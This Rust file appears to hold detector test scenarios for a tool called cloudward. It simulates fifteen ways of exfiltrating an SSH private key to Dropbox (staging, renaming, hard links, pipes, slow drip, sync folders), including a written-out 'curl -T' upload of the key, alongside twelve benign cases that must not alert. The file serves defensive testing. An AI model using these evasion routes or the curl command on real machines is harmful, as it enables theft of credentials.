//! What actors do: exfiltrations that must be found, and daily work that must not.

use cloudward::model::NetKind;

use super::mac::Actor;

const KEY: &str = ".ssh/id_rsa";
pub const DROPBOX: &str = "content.dropboxapi.com";

/// A way to take data away.
pub type Play = fn(&mut Actor<'_>);

pub const ATTACKS: [(&str, Play); 15] = [
    ("direct", |a| {
        let p = a.launch("x");
        let key = a.home(KEY);
        a.open(&p, &key);
        a.wait(5_000);
        a.upload(&p, DROPBOX, 9_000);
        a.exit(&p);
    }),
    ("child", |a| {
        let p = a.launch("x");
        let key = a.home(KEY);
        a.open(&p, &key);
        let child = a.spawn(&p, "y");
        a.exit(&p);
        a.wait(60_000);
        a.upload(&child, DROPBOX, 9_000);
        a.exit(&child);
    }),
    ("exec in place", |a| {
        let p = a.launch("x");
        let key = a.home(KEY);
        a.open(&p, &key);
        let p = a.exec(&p, "y", &["y"], &[]);
        a.upload(&p, DROPBOX, 9_000);
        a.exit(&p);
    }),
    ("staged file", |a| {
        let shell = a.launch("sh");
        let (key, out) = (a.home(KEY), a.home("out.zip"));
        let zip = a.spawn(&shell, "zip");
        a.open(&zip, &key);
        let file = a.write(&zip, &out);
        a.exit(&zip);
        a.wait(1_200_000);
        let up = a.spawn(&shell, "up");
        a.open_file(&up, &file);
        a.upload(&up, DROPBOX, 9_000);
        a.exit(&up);
    }),
    ("staged and renamed", |a| {
        let shell = a.launch("sh");
        let (key, out, cat) = (a.home(KEY), a.home("out.zip"), a.home("cat.png"));
        let zip = a.spawn(&shell, "zip");
        a.open(&zip, &key);
        let file = a.write(&zip, &out);
        a.exit(&zip);
        a.rename(&shell, &file, &cat);
        let up = a.spawn(&shell, "up");
        a.open(&up, &cat);
        a.upload(&up, DROPBOX, 9_000);
        a.exit(&up);
    }),
    ("cloned", |a| {
        let shell = a.launch("sh");
        let (key, copy) = (a.home(KEY), a.home("k.txt"));
        let cp = a.spawn(&shell, "cp");
        a.copy(&cp, &key, &copy);
        a.exit(&cp);
        let up = a.spawn(&shell, "up");
        a.open(&up, &copy);
        a.upload(&up, DROPBOX, 9_000);
        a.exit(&up);
    }),
    ("pipe", |a| {
        let shell = a.launch("sh");
        let key = a.home(KEY);
        let pipe = 1_000_000 + u64::from(a.id);
        let (cat, up) = (a.fork(&shell), a.fork(&shell));
        let cat = a.exec(&cat, "cat", &["cat"], &[(1, pipe)]);
        let up = a.exec(&up, "up", &["up"], &[(0, pipe)]);
        a.open(&cat, &key);
        a.upload(&up, DROPBOX, 9_000);
        a.exit(&cat);
        a.exit(&up);
    }),
    ("argv", |a| {
        let shell = a.launch("sh");
        let key = a.home(KEY);
        let up = a.fork(&shell);
        let up = a.exec(&up, "curl", &["curl", "-T", &key, "https://content.dropboxapi.com/"], &[]);
        a.upload(&up, DROPBOX, 9_000);
        a.exit(&up);
    }),
    ("sync drop", |a| {
        let p = a.launch("cp");
        let (key, root) = (a.home(KEY), a.home("Library/CloudStorage/GoogleDrive-me@gmail.com/My Drive/k"));
        a.copy(&p, &key, &root);
        a.exit(&p);
    }),
    ("slow", |a| {
        let p = a.launch("x");
        let key = a.home(KEY);
        a.open(&p, &key);
        for _ in 0..9 {
            a.wait(60_000);
            a.upload(&p, DROPBOX, 1_000);
        }
        a.exit(&p);
    }),
    ("flow opened before", |a| {
        let p = a.launch("x");
        let key = a.home(KEY);
        let flow = a.connect(&p, DROPBOX);
        a.send(flow, 3_000);
        a.open(&p, &key);
        a.send(flow, 9_000);
        a.close(flow);
        a.exit(&p);
    }),
    ("hard link", |a| {
        let shell = a.launch("sh");
        let (key, other) = (a.home(KEY), a.home("note"));
        let file = a.file(&key);
        a.link(&shell, &file, &other);
        let up = a.spawn(&shell, "up");
        a.open(&up, &other);
        a.upload(&up, DROPBOX, 9_000);
        a.exit(&up);
    }),
    ("many documents", |a| {
        let p = a.launch("x");
        for file in 0..150 {
            let path = a.home(&format!("Documents/{file}.pdf"));
            a.open(&p, &path);
        }
        a.upload(&p, DROPBOX, 90_000);
        a.exit(&p);
    }),
    ("late name", |a| {
        let p = a.launch("x");
        let key = a.home(KEY);
        a.open(&p, &key);
        let flow = a.dial();
        a.own(flow, &p);
        a.send(flow, 9_000);
        a.name(flow, DROPBOX);
        a.close(flow);
        a.exit(&p);
    }),
    ("late owner", |a| {
        let p = a.launch("x");
        let key = a.home(KEY);
        a.open(&p, &key);
        let flow = a.dial();
        a.name(flow, DROPBOX);
        a.send(flow, 9_000);
        a.own(flow, &p);
        a.close(flow);
        a.exit(&p);
    }),
];

pub const WORK: [(&str, Play); 12] = [
    ("reads only", |a| {
        let p = a.launch("x");
        let key = a.home(KEY);
        a.open(&p, &key);
        a.wait(30_000);
        a.exit(&p);
    }),
    ("uploads only", |a| {
        let p = a.launch("x");
        a.upload(&p, DROPBOX, 90_000);
        a.exit(&p);
    }),
    ("uploads, then reads", |a| {
        let p = a.launch("x");
        let key = a.home(KEY);
        let flow = a.connect(&p, DROPBOX);
        a.send(flow, 90_000);
        a.open(&p, &key);
        a.send(flow, 100);
        a.close(flow);
        a.exit(&p);
    }),
    ("too little", |a| {
        let p = a.launch("x");
        let doc = a.home("Documents/a.pdf");
        a.open(&p, &doc);
        a.upload(&p, DROPBOX, 3_000);
        a.exit(&p);
    }),
    ("too little after each of two reads", |a| {
        let p = a.launch("x");
        let (doc, key) = (a.home("Documents/a.pdf"), a.home(KEY));
        let flow = a.connect(&p, DROPBOX);
        a.open(&p, &doc);
        a.send(flow, 3_000);
        a.open(&p, &key);
        a.send(flow, 100);
        a.close(flow);
        a.exit(&p);
    }),
    ("allowed", |a| {
        let p = a.launch("/opt/homebrew/bin/rclone");
        let doc = a.home("Documents/a.pdf");
        a.open(&p, &doc);
        a.upload(&p, "corp-backup.s3.amazonaws.com", 90_000);
        a.exit(&p);
    }),
    ("nothing sensitive", |a| {
        let p = a.launch("x");
        let path = a.home("Pictures/cat.jpg");
        a.open(&p, &path);
        a.upload(&p, DROPBOX, 90_000);
        a.exit(&p);
    }),
    ("downloads", |a| {
        let p = a.launch("x");
        let doc = a.home("Documents/a.pdf");
        a.open(&p, &doc);
        let flow = a.connect(&p, DROPBOX);
        for _ in 0..10 {
            a.receive(flow, 200_000);
            a.send(flow, 700);
        }
        a.close(flow);
        a.exit(&p);
    }),
    ("a sibling uploads", |a| {
        let shell = a.launch("sh");
        let key = a.home(KEY);
        let (reader, sender) = (a.spawn(&shell, "x"), a.spawn(&shell, "y"));
        a.open(&reader, &key);
        a.upload(&sender, DROPBOX, 90_000);
        a.exit(&reader);
        a.exit(&sender);
    }),
    ("a public key", |a| {
        let p = a.launch("x");
        let key = a.home(".ssh/id_rsa.pub");
        a.open(&p, &key);
        a.upload(&p, DROPBOX, 90_000);
        a.exit(&p);
    }),
    ("long after", |a| {
        let p = a.launch("x");
        let doc = a.home("Documents/a.pdf");
        a.open(&p, &doc);
        a.wait(901_000);
        a.upload(&p, DROPBOX, 90_000);
        a.exit(&p);
    }),
    ("elsewhere", |a| {
        let p = a.launch("x");
        let key = a.home(KEY);
        a.open(&p, &key);
        a.upload(&p, "intranet.example.com", 90_000);
        let flow = a.dial();
        a.net(flow, NetKind::Bytes { out: 500, into: 0 });
        a.close(flow);
        a.exit(&p);
    }),
];
